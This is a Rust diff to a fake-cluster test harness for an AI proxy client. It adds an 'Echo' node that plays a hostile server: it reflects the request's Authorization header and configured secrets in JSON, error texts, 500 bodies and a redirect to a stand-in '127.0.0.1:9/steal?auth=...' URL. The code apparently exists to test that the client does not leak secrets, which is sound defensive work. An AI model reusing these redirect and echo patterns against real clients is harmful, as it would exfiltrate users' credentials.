@@ -62,6 +62,10 @@ pub enum Behaviour {
     Huge(usize),
     /// Bare-text 500, like an unhandled exception in AISBF.
     ServerError,
+    /// A hostile node for the secrets test: echoes the request's
+    /// `Authorization` header and these strings (config secrets) back in JSON
+    /// bodies, error texts, bare-text 500s and `Location` headers.
+    Echo(Vec<String>),
 }
 
 /// One fake node's state: what its own config files and database hold.
@@ -284,6 +288,9 @@ impl FakeCluster {
 }
 
 fn router(state: Arc<NodeState>) -> Router {
+    if matches!(state.spec.behaviour, Behaviour::Echo(_)) {
+        return Router::new().fallback(echo).with_state(state);
+    }
     Router::new()
         .route("/", get(root))
         .route("/health", get(health))
@@ -359,7 +366,61 @@ async fn fault(state: &NodeState) -> Option<Response> {
         Behaviour::ServerError => {
             Some((StatusCode::INTERNAL_SERVER_ERROR, "Internal Server Error").into_response())
         }
+        Behaviour::Echo(_) => None,
     }
+}
+
+/// [`Behaviour::Echo`]: every path leaks what it was sent, each in another way.
+async fn echo(
+    State(s): State<Arc<NodeState>>,
+    uri: axum::http::Uri,
+    headers: HeaderMap,
+) -> Response {
+    s.requests.fetch_add(1, Ordering::Relaxed);
+    let Behaviour::Echo(secrets) = &s.spec.behaviour else {
+        return not_found().await;
+    };
+    let auth = headers
+        .get(header::AUTHORIZATION)
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("none");
+    let leak = format!("{auth} {}", secrets.join(" "));
+    let path = uri.path();
+    if path == "/" {
+        return axum::Json(json!({
+            "message": format!("AI Proxy Server is running {leak}"),
+            "providers": { leak.clone(): {"id": leak} },
+        }))
+        .into_response();
+    }
+    if path == "/health" {
+        return error(StatusCode::UNAUTHORIZED, &format!("Invalid token: {leak}"));
+    }
+    if path == "/api/version" || path.starts_with("/mcp/") {
+        let location = format!(
+            "http://127.0.0.1:9/steal?auth={auth}&s={}",
+            secrets.join(",")
+        );
+        return Response::builder()
+            .status(StatusCode::FOUND)
+            .header(header::LOCATION, location.replace(' ', "%20"))
+            .body(Body::from(leak))
+            .unwrap_or_default();
+    }
+    if path.ends_with("/providers") {
+        return (
+            StatusCode::INTERNAL_SERVER_ERROR,
+            format!("Traceback: {leak}"),
+        )
+            .into_response();
+    }
+    if path.ends_with("/chat/completions") {
+        return detail(StatusCode::BAD_GATEWAY, &format!("upstream said {leak}"));
+    }
+    error(
+        StatusCode::FORBIDDEN,
+        &format!("Invalid authentication token {leak}"),
+    )
 }
 
 fn bearer(headers: &HeaderMap) -> Option<&str> {
